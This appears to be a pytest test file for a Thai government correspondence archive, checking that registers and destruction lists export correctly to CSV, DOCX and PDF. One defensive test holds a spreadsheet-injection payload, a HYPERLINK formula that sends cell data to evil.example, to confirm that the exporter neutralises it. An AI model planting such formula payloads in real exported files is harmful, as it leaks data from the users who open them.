"""Registers out of the archive (ทะเบียนหนังสือส่ง/รับ) and the destruction list (บัญชี
หนังสือขอทำลาย): official columns, Thai digits and short dates, every number accounted for;
as CSV, DOCX (read back with python-docx) and PDF (read back with pdftotext)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess

import pytest
from conftest import ARCHIVE_UNIT, make_letter
from docx import Document
from pdfa import pdfa_problems

from saraban.archive import incoming_register, outgoing_register, retention_due, write_table
from saraban.archive._registers import DESTRUCTION_COLUMNS, INCOMING_COLUMNS, OUTGOING_COLUMNS
from saraban.errors import BadRequest

ACTOR = "tester"
JAN = dt.date(2025, 1, 1), dt.date(2025, 1, 31)


@pytest.fixture
def filled(archive):
    """Numbers 1-4 of January 2568: issued, cancelled, released, circular; one received."""
    first = archive.issue(make_letter("ขอเชิญประชุม"), ARCHIVE_UNIT, actor=ACTOR, date=JAN[0])
    second = archive.issue(make_letter("ส่งรายงาน"), ARCHIVE_UNIT, actor=ACTOR, date=JAN[0])
    archive.cancel(second.id, "ส่งผิดหน่วยงาน", actor=ACTOR)
    reserved = archive.reserve(ARCHIVE_UNIT, actor=ACTOR, date=dt.date(2025, 1, 5))
    archive.release(reserved.id, "ไม่ได้ใช้", actor=ACTOR)
    archive.issue(
        make_letter("แจ้งเวียน", circular=True, secrecy="ลับ"),
        ARCHIVE_UNIT,
        actor=ACTOR,
        date=dt.date(2025, 1, 6),
        retention_years=None,
    )
    archive.issue(make_letter("นอกช่วง"), ARCHIVE_UNIT, actor=ACTOR, date=dt.date(2025, 2, 1))
    archive.receive(
        ARCHIVE_UNIT,
        sender="อำเภอเมืองหนองคาย",
        recipient="ผู้ว่าราชการจังหวัดหนองคาย",
        subject="รายงานผลการดำเนินงาน",
        ref_no="นค ๐๑๑๘/๔๕",
        letter_date=dt.date(2025, 1, 8),
        received_at=dt.datetime(2025, 1, 9, 10, 30).astimezone(),
        action="มอบกลุ่มงานส่งเสริม",
        actor=ACTOR,
    )
    return archive, first


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read it as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_outgoing_register_accounts_for_every_number(filled):
    archive, first = filled
    table = outgoing_register(archive, *JAN)
    rows = read_csv(write_table(table, "csv"))
    assert tuple(rows[0]) == OUTGOING_COLUMNS
    body = rows[1:]
    assert [r[1] for r in body] == ["๑", "๒", "๓", "ว ลับ ๑"]
    assert [r[2] for r in body] == [ARCHIVE_UNIT] * 4
    assert body[0][3] == "๑ ม.ค. ๖๘"
    assert body[0][4:7] == ["ศาลากลางจังหวัดหนองคาย", "นายอำเภอ ทุกอำเภอ", "ขอเชิญประชุม"]
    assert body[1][8] == "ยกเลิก: ส่งผิดหน่วยงาน"
    assert body[2][8] == "ไม่ได้ใช้เลข: ไม่ได้ใช้"
    assert "ลับ" in body[3][8]
    assert "นอกช่วง" not in {r[6] for r in body}


def test_incoming_register_csv(filled):
    archive, _ = filled
    rows = read_csv(write_table(incoming_register(archive, *JAN), "csv"))
    assert tuple(rows[0]) == INCOMING_COLUMNS
    assert rows[1] == [
        "๙ ม.ค. ๖๘ ๑๐.๓๐ น.",
        "๑",
        "นค ๐๑๑๘/๔๕",
        "๘ ม.ค. ๖๘",
        "อำเภอเมืองหนองคาย",
        "ผู้ว่าราชการจังหวัดหนองคาย",
        "รายงานผลการดำเนินงาน",
        "มอบกลุ่มงานส่งเสริม",
        "",
    ]


def test_no_register_cell_becomes_a_spreadsheet_formula(archive):
    """Senders and subjects are typed by people outside the office: a cell that starts
    like a formula (=, +, -, @) keeps a leading quote in the CSV."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"ดูรายละเอียด")'
    archive.receive(
        ARCHIVE_UNIT,
        sender="@SUM(1+1)",
        recipient="ผู้ว่าราชการจังหวัดหนองคาย",
        subject=hostile,
        received_at=dt.datetime(2025, 1, 9, 10, 30).astimezone(),
        actor="clerk",
    )
    rows = read_csv(write_table(incoming_register(archive, *JAN), "csv"))
    assert rows[1][4] == "'@SUM(1+1)" and rows[1][6] == "'" + hostile
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


def test_register_as_docx_table(filled):
    archive, _ = filled
    document = Document(io.BytesIO(write_table(outgoing_register(archive, *JAN), "docx")))
    assert "ทะเบียนหนังสือส่ง" in document.paragraphs[0].text
    (table,) = document.tables
    assert [c.text for c in table.rows[0].cells] == list(OUTGOING_COLUMNS)
    assert [row.cells[1].text for row in table.rows[1:]] == ["๑", "๒", "๓", "ว ลับ ๑"]
    section = document.sections[0]
    assert section.page_width > section.page_height  # landscape
    # Every run in the official face in the complex-script slot too, sized for the Thai
    # (the letters' own font code: templates.set_docx_font).
    from docx.oxml.ns import qn

    runs = document.element.body.iter(qn("w:r"))
    for run in runs:
        rpr = run.find(qn("w:rPr"))
        fonts = rpr.find(qn("w:rFonts"))
        assert fonts.get(qn("w:cs")) == "TH SarabunPSK"
        assert rpr.find(qn("w:szCs")) is not None


@pytest.mark.pdf
@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs poppler-utils")
def test_register_as_pdf(filled, tmp_path):
    archive, _ = filled
    path = tmp_path / "register.pdf"
    path.write_bytes(write_table(outgoing_register(archive, *JAN), "pdf"))
    # PDF/A only when Sarabun draws every character (templates/_typeset.table_pdf)
    assert pdfa_problems(path.read_bytes()) == []
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "ทะเบียนหนังสือส่ง" in text
    assert "เลขทะเบียน" in text  # the column "เลขทะเบียนส่ง", wrapped between its words
    assert "ขอเชิญประชุม" in text
    assert "ยกเลิก" in text
    assert "หน้า ๑" in text


def test_bad_ranges_and_formats_are_named(filled):
    archive, _ = filled
    with pytest.raises(BadRequest, match="before the start"):
        outgoing_register(archive, JAN[1], JAN[0])
    with pytest.raises(BadRequest, match="format"):
        write_table(outgoing_register(archive, *JAN), "xlsx")
    with pytest.raises(BadRequest, match="CE year"):
        retention_due(archive, 2035)


def test_destruction_list_for_a_year(filled):
    archive, first = filled
    short = archive.issue(
        make_letter("เรื่องประจำ"), ARCHIVE_UNIT, actor=ACTOR, date=JAN[1], retention_years=1
    )
    table = retention_due(archive, 2578)
    rows = read_csv(write_table(table, "csv"))
    assert tuple(rows[0]) == DESTRUCTION_COLUMNS
    subjects = [r[4] for r in rows[1:]]
    # 2568 + 10: the issued, the cancelled and February's letter; not the "never destroy"
    # circular, not the released number, not the 1-year letter.
    assert subjects == ["ขอเชิญประชุม", "ส่งรายงาน", "นอกช่วง"]
    assert [r[0] for r in rows[1:]] == ["๑", "๒", "๓"]
    assert rows[1][2] == first.ref_no
    assert rows[2][6] == "เก็บถึง พ.ศ. ๒๕๗๘; ยกเลิกแล้ว"
    assert [r[4] for r in read_csv(write_table(retention_due(archive, 2569), "csv"))[1:]] == [
        short.letter["subject"]
    ]
    document = Document(io.BytesIO(write_table(table, "docx")))
    assert [c.text for c in document.tables[0].rows[0].cells] == list(DESTRUCTION_COLUMNS)
